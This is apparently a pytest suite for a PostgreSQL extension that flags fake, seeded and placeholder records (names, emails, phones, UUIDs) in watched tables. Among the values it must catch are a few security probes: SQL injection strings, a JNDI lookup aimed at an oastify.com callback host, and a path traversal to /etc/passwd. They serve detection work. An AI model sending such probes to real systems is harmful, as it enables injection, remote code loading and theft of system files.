"""Every default rule pack, with values it must catch and real-looking values it must pass.

Each value goes through the real write path: a row in a watched table (warn mode), the
prefilter in the trigger's WHEN clause, then the precise rule.
"""

from __future__ import annotations

import psycopg
import pytest

COLUMNS = {
    "email": "email",
    "person": "person_name",
    "org": "organization",
    "phone": "phone",
    "ident": "identifier",
    "note": "free_text",
}

CATCHES = [
    # reserved_domains (RFC 2606 / RFC 6761)
    ("email", "user@tenant-a.test", "reserved_test_tld"),
    ("email", "Admin@Clinic.EXAMPLE", "reserved_test_tld"),
    ("email", "ops@bad.invalid", "reserved_test_tld"),
    ("email", "root@localhost", "reserved_test_tld"),
    ("email", "jane.doe@example.com", "reserved_example_domain"),
    ("email", "billing@mail.example.org", "reserved_example_domain"),
    # disposable_email
    ("email", "qa.signup@mailinator.com", "disposable_mail_domain"),
    ("email", "abc123@yopmail.fr", "disposable_mail_domain"),
    ("email", "x@sharklasers.com", "disposable_mail_domain"),
    # qa_addresses
    ("email", "test+123@gmail.com", "qa_local_part"),
    ("email", "test@clinic-mail.com", "qa_local_part"),
    ("email", "qa+signup@outlook.com", "qa_local_part"),
    ("email", "e2e-run7@company.io", "qa_local_part"),
    ("email", "test42@gmail.com", "qa_local_part"),
    ("email", "jane.doe+e2e42@gmail.com", "qa_plus_tag"),
    ("email", "bob+test@yahoo.com", "qa_plus_tag"),
    # placeholder_names
    ("person", "John Doe", "placeholder_full_name"),
    ("person", "jane  DOE", "placeholder_full_name"),
    ("person", "Test User", "placeholder_full_name"),
    ("person", "Max Mustermann", "placeholder_full_name"),
    ("person", "Foo Bar", "placeholder_full_name"),
    ("person", "Test", "placeholder_name_word"),
    ("person", "Dummy Patient", "placeholder_name_word"),
    ("person", "Lorem", "placeholder_name_word"),
    ("person", "Patient 42", "numbered_test_name"),
    ("person", "user_7", "numbered_test_name"),
    ("person", "test1", "numbered_test_name"),
    # keyboard_mash
    ("person", "Asdfgh", "keyboard_mash"),
    ("person", "qwerty", "keyboard_mash"),
    ("person", "Zzzz", "keyboard_mash"),
    ("org", "asdf jkl", "keyboard_mash"),
    # fixture_markers
    ("org", "Test Clinic", "test_organization"),
    ("org", "Fake Clinic", "test_organization"),
    ("org", "Demo Dental", "test_organization"),
    ("org", "Tenant A Dental", "tenant_fixture"),
    ("org", "tenant-b", "tenant_fixture"),
    ("email", "user@tenant-a.test", "tenant_fixture"),
    ("org", "Bright Smiles (TEST)", "test_marker"),
    ("note", "[QA] do not bill", "test_marker"),
    ("note", "DO NOT USE - seed row", "test_marker"),
    ("note", "Lorem ipsum dolor sit amet", "test_marker"),
    ("person", "Tenant_1 Admin", "tenant_fixture"),
    # fictitious_phones
    ("phone", "(415) 555-0123", "nanp_fictional_phone"),
    ("phone", "555-0199", "nanp_fictional_phone"),
    ("phone", "+1.212.555.0100", "nanp_fictional_phone"),
    ("phone", "+44 20 7946 0123", "uk_drama_phone"),
    ("phone", "07700 900456", "uk_drama_phone"),
    ("phone", "0113 496 0999", "uk_drama_phone"),
    ("phone", "0491 570 156", "au_fictional_phone"),
    ("phone", "(02) 5550 1234", "au_fictional_phone"),
    ("phone", "123-456-7890", "degenerate_phone"),
    ("phone", "000-000-0000", "degenerate_phone"),
    ("phone", "9999999999", "degenerate_phone"),
    # example_uuids
    ("ident", "550e8400-e29b-41d4-a716-446655440000", "example_uuid"),
    ("ident", "550e8400-e29b-41d4-a716-000000000042", "example_uuid"),
    ("ident", "123e4567-e89b-12d3-a456-426614174000", "example_uuid"),
    ("ident", "a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11", "example_uuid"),
    ("ident", "00000000-0000-0000-0000-000000000000", "degenerate_uuid"),
    ("ident", "00000000-0000-0000-0000-000000000007", "degenerate_uuid"),
    ("ident", "11111111-1111-1111-1111-111111111111", "degenerate_uuid"),
    ("ident", "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF", "degenerate_uuid"),
    ("ident", "11111111-1111-1111-1111-111111111112", "degenerate_uuid"),
    # documentation UUIDs and their sequential variants
    ("ident", "3fa85f64-5717-4562-b3fc-2c963f66afa6", "example_uuid"),
    ("ident", "123e4567-e89b-12d3-a456-426614174001", "example_uuid"),
    ("ident", "f81d4fae-7dec-11d0-a765-00a0c91e6bf6", "example_uuid"),
    # the curated disposable list: lesser-known providers and sub-domains
    ("email", "me@0-mail.com", "disposable_mail_domain"),
    ("email", "anyone@Sub.YopMail.fr", "disposable_mail_domain"),
    # load-test and seed accounts
    ("email", "loadtest_00042@brightsmiles.com", "qa_local_part"),
    ("email", "seeduser7@acme.dev", "qa_local_part"),
    # test_tools
    ("email", "cypress+1702@brightsmiles.io", "test_tool_address"),
    ("email", "playwright_user_3@acme.io", "test_tool_address"),
    ("email", "Selenium@clinic.com", "test_tool_address"),
    ("email", "ops+cypress@gmail.com", "qa_plus_tag"),
    ("person", "Playwright User", "test_tool_name"),
    ("org", "Selenium Bot Clinic", "test_tool_name"),
    ("person", "pytest patient", "test_tool_name"),
    ("email", "jane@staging.brightsmiles.com", "nonprod_mail_subdomain"),
    ("email", "x@qa2.acme.co.uk", "nonprod_mail_subdomain"),
    ("email", "dr@DEV.kamdental.com", "nonprod_mail_subdomain"),
    ("email", "user00063@loadtest.brightsmiles.com", "nonprod_mail_subdomain"),
    # reserved and internal-only names, placeholder domains in several languages, IP literals
    ("email", "dev@dev.local", "reserved_test_tld"),
    ("email", "root@localhost.localdomain", "reserved_test_tld"),
    ("email", "dev@app.internal", "reserved_test_tld"),
    ("email", "info@test.com", "placeholder_mail_domain"),
    ("email", "fulano.detal@ejemplo.com", "placeholder_mail_domain"),
    ("email", "jan.kowalski@przyklad.pl", "placeholder_mail_domain"),
    ("email", "admin@127.0.0.1", "mail_ip_literal"),
    ("email", "jnguyen@inbox.mailtrap.io", "test_mail_service"),
    ("email", "3cbfb7d6014b@mailslurp.net", "test_mail_service"),
    ("email", "sqli86@burpcollaborator.net", "probe_mail_domain"),
    ("email", "null@null.com", "placeholder_mail_local"),
    ("email", "noreply@brightsmiles.com", "placeholder_mail_local"),
    ("email", "email37@factory.com", "numbered_mail_local"),
    ("email", "patient24@brightsmiles.com", "numbered_mail_local"),
    ("email", "shannon.test@brightsmiles.com", "qa_local_suffix"),
    ("email", "k6-vu105-iter7@perf.brightsmiles.io", "qa_local_part"),
    ("email", "demo.patient@brightsmiles.com", "qa_local_part"),
    ("email", "camilleleduc+staging@gmail.com", "qa_plus_tag"),
    ("email", "frederic.bodin+18@brightsmiles.com", "qa_plus_tag"),
    ("email", "todd@mail-temp.com", "disposable_mail_domain"),
    # names
    ("person", "0024", "numeric_name"),
    ("person", "Surname", "placeholder_value"),
    ("person", "N/A", "placeholder_value"),
    ("org", "N/A", "placeholder_org_value"),
    ("email", "E-mail address", "column_header_value"),
    ("phone", "Phone Number", "column_header_value"),
    ("org", "Clinic 37", "numbered_org_name"),
    ("org", "Copy of Bright Smiles Dental", "copied_record_name"),
    ("org", "New Clinic (copy)", "copied_record_name"),
    ("org", "Sandbox Dental", "copied_record_name"),
    ("person", "Fulano de Tal", "placeholder_full_name"),
    ("person", "John Appleseed", "placeholder_full_name"),
    ("person", "Testy McTestface", "placeholder_name_word"),
    ("person", "First110", "numbered_test_name"),
    ("person", "loadtest_00065", "numbered_test_name"),
    ("person", "k6", "test_tool_name"),
    # probes, filler and notes
    ("person", "admin'--", "security_probe"),
    ("org", "' OR '1'='1", "security_probe"),
    ("note", "${jndi:ldap://x.oastify.com/a}", "security_probe"),
    ("note", "../../etc/passwd", "security_probe"),
    ("note", "Excepteur sint occaecat cupidatat non proident.", "lorem_ipsum_words"),
    ("note", "internal test, ignore", "test_note"),
    ("note", "seeded by db/seeds.rb", "test_note"),
    ("note", "James testing online booking", "test_note"),
    ("note", "dummy record for sales demo", "test_note"),
    ("note", "DELETE ME", "test_note"),
    ("note", "Paziente di prova.", "test_note"),
    ("note", "Testpatiënt.", "test_note"),
    ("note", "TEST TEST TEST", "test_note"),
    ("note", "created by QA for regression run", "test_note"),
    ("note", "visit #test", "test_note"),
    ("phone", "tbd", "column_header_value"),
    # phones
    ("phone", "01632 960366", "uk_drama_phone"),
    ("phone", "(02) 7010 0201", "au_fictional_phone"),
    ("phone", "1800 975 707", "au_fictional_phone"),
    ("phone", "+15005550001", "vendor_test_phone"),
    ("phone", "555-610-6679", "nanp_fictional_area"),
    ("phone", "+44 0000 000000", "degenerate_phone"),
    # UUIDs
    ("ident", "00000000-0000-4000-8000-000000000027", "degenerate_uuid"),
    ("ident", "6ba7b811-9dad-11d1-80b4-00c04fd430c8", "example_uuid"),
]

PASSES = [
    ("person", "Celeste Testa"),
    ("person", "Martin Tester"),
    ("person", "Oliver Dummett"),
    ("person", "Grace Sample"),
    ("person", "Celeste"),
    ("person", "Testa"),
    ("person", "Contessa Attwood"),
    ("person", "John Dobson"),
    ("person", "Jane Doerr"),
    ("person", "Ilan Bar-On"),
    ("person", "Foo Jie Ying"),
    ("person", "Wertheimer"),
    ("person", "Patience Okafor"),
    ("person", "Usher"),
    ("person", "Aaron"),
    ("person", "Anna Schmidt-Müller"),
    ("person", "Zoë Nuñez"),
    ("person", "李小龙"),
    ("person", "Asdrúbal Ruiz"),
    ("org", "Greatest Smiles Dental"),
    ("org", "Testament Dental Group"),
    ("org", "Contest Winners Orthodontics"),
    ("org", "Tenants Association of Leeds"),
    ("org", "Sample & Sons Dentistry"),
    ("org", "Smile Clinic 2"),
    ("org", "Harbour Family Dentistry"),
    ("org", "Acme Dental Lab"),
    ("email", "celeste.testa@gmail.com"),
    ("email", "mtester@outlook.com"),
    ("email", "testa.celeste@gmail.com"),
    ("email", "ops@examplehealth.com"),
    ("email", "jane+newsletter@gmail.com"),
    ("email", "contact@greatest-smiles.test.dental.com"),
    ("email", "dr.quest@clinic.co.uk"),
    ("email", "attestor@law.org"),
    ("email", "protester@riot.net"),
    ("phone", "+1 415 872 1930"),
    ("phone", "+1 415 555 8123"),
    ("phone", "+44 20 7946 5678"),
    ("phone", "0491 571 156"),
    ("phone", "+49 30 12345"),
    ("phone", "(212) 736-5000"),
    ("ident", "7d1c2f0e-5b7a-4c1e-9d2a-3f4b5c6d7e81"),
    ("ident", "550e8401-e29b-41d4-a716-446655440000"),
    ("ident", "3fa85f65-5717-4562-b3fc-2c963f66afa6"),
    ("email", "cypresshill@gmail.com"),
    ("email", "jasmine.lee@gmail.com"),
    ("email", "jane@stagecoach.co.uk"),
    ("email", "devon@testingtonclinic.com"),
    ("email", "someone@mail.com"),
    ("org", "Cypress Family Dentistry"),
    ("person", "Jasmine Karma"),
    ("person", "Louis XIV"),
    ("person", "Mario Rossi"),
    ("person", "Jan Kowalski"),
    ("person", "Kate Bell"),
    ("person", "Nil Soler"),
    ("person", "O'Brien"),
    ("org", "Smile Clinic 2"),
    ("org", "New Haven Dental"),
    ("org", "NA Dental"),
    ("org", "Dental Clinic"),
    ("org", "Mrs O'Brien or her son"),
    ("email", "nulla.rossi@libero.it"),
    ("email", "emma37@gmail.com"),
    ("email", "shannon.testa@brightsmiles.com"),
    ("email", "anna@burpham.co.uk"),
    ("email", "info@mailtrack.io"),
    ("email", "admin@1und1.de"),
    ("email", "jane@ejemplos-dental.com"),
    ("email", "j.smith@corp.localbank.com"),
    ("note", "Dolor en el molar inferior derecho."),
    ("note", "Blood test results normal; pulp test positive."),
    ("note", "Allergy test booked for next week"),
    ("note", "Asked us to delete me from SMS reminders, says the patient"),
    ("note", "Patch test positive; created by Dr Lee"),
    ("note", "Patient's mother or father must attend"),
    ("phone", "+1 500 556 0006"),
    ("phone", "+49 30 1234567"),
    ("ident", "00000001-9dad-11d1-80b4-00c04fd430c8"),
    ("note", "Test results normal, follow-up in 6 months"),
    ("note", "Patient contested the invoice"),
    ("note", "Use floss daily; do not use whitening strips"),
    ("note", "Attended with tenant's permit"),
]


@pytest.fixture(scope="module")
def probe(module_db: psycopg.Connection) -> psycopg.Connection:
    db = module_db
    db.execute(
        "CREATE TABLE public.probe (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, "
        "email text, person text, org text, phone text, ident uuid, note text)"
    )
    overrides = "{" + ", ".join(f'"{c}": "{k}"' for c, k in COLUMNS.items()) + "}"
    db.execute("SELECT guardian.watch('public.probe', %s::jsonb)", (overrides,))
    return db


def findings_for(db: psycopg.Connection, column: str, value: str) -> set[str]:
    db.execute(f"INSERT INTO public.probe ({column}) VALUES (%s)", (value,))
    rows = db.execute(
        "SELECT f.rule FROM guardian.findings AS f WHERE f.record_id = (SELECT max(id)::text FROM public.probe)"
    ).fetchall()
    return {r[0] for r in rows}


@pytest.mark.parametrize(("column", "value", "rule"), CATCHES, ids=[f"{r}:{v}" for _, v, r in CATCHES])
def test_default_rule_catches_test_data(probe: psycopg.Connection, column: str, value: str, rule: str) -> None:
    assert rule in findings_for(probe, column, value)


@pytest.mark.parametrize(("column", "value"), PASSES, ids=[v for _, v in PASSES])
def test_real_data_passes_every_default_rule(probe: psycopg.Connection, column: str, value: str) -> None:
    assert findings_for(probe, column, value) == set()


def test_every_default_rule_is_exercised_here() -> None:
    import re
    from pathlib import Path

    packs = (Path(__file__).resolve().parents[1] / "extension/sql/20_contamination/20_rule_packs.sql").read_text()
    defined = set(re.findall(r"^\('([a-z_]+)'", packs, re.M))
    assert defined and defined == {rule for _, _, rule in CATCHES}


def test_every_default_rule_documents_a_catch_and_a_pass(db: psycopg.Connection) -> None:
    rows = db.execute(
        "SELECT name, example_match, example_nonmatch, description FROM guardian.rules WHERE builtin"
    ).fetchall()
    assert len(rows) >= 18
    for name, match, nonmatch, description in rows:
        assert match and nonmatch and description, name
        kind = db.execute("SELECT kinds[1] FROM guardian.rules WHERE name = %s", (name,)).fetchone()[0]
        hit = {r[0] for r in db.execute("SELECT rule FROM guardian._match(%s, '', %s)", (kind, match)).fetchall()}
        miss = {r[0] for r in db.execute("SELECT rule FROM guardian._match(%s, '', %s)", (kind, nonmatch)).fetchall()}
        assert name in hit and name not in miss, name


def test_full_name_across_first_and_last_name_columns(db: psycopg.Connection) -> None:
    db.execute("CREATE TABLE public.people (id int PRIMARY KEY, first_name text, last_name text)")
    db.execute("SELECT guardian.watch('public.people')")
    db.execute("INSERT INTO public.people VALUES (1, 'John', 'Doe'), (2, 'John', 'Dobson'), (3, 'Jane', 'Roe')")
    rows = db.execute("SELECT record_id, column_name, rule FROM guardian.findings ORDER BY record_id").fetchall()
    assert rows == [
        ("1", "first_name+last_name", "placeholder_full_name"),
        ("3", "first_name+last_name", "placeholder_full_name"),
    ]


def test_false_positive_rate_on_realistic_data_is_far_below_five_percent(db: psycopg.Connection) -> None:
    from pathlib import Path

    data = (Path(__file__).resolve().parents[1] / "bench/data.sql").read_text().replace(":rows", "20000")
    db.execute(data)
    db.execute("CREATE TABLE public.patients (LIKE bench_src)")
    db.execute("SELECT guardian.watch('public.patients')")
    db.execute("INSERT INTO public.patients SELECT * FROM bench_src")
    flagged = db.execute("SELECT count(DISTINCT record_id) FROM guardian.findings").fetchone()[0]
    # The data holds only real-looking people (Testa, Tester, Dummett, Sample, Celeste ...);
    # a random phone number may land in a reserved fiction range (1 in ~10,000).
    assert flagged / 20000 < 0.001


def test_an_anchor_that_would_let_every_value_through_is_refused(db: psycopg.Connection) -> None:
    with pytest.raises(psycopg.errors.InvalidParameterValue, match="anchor '#test' has no digit") as err:
        db.execute(
            "INSERT INTO guardian.rules (name, kinds, match_type, pattern, anchors, description) "
            "VALUES ('hashtag', '{free_text}', 'regex', '#test', ARRAY['#test'], 'hashtags')"
        )
    assert "digits" in (err.value.diag.message_hint or "")
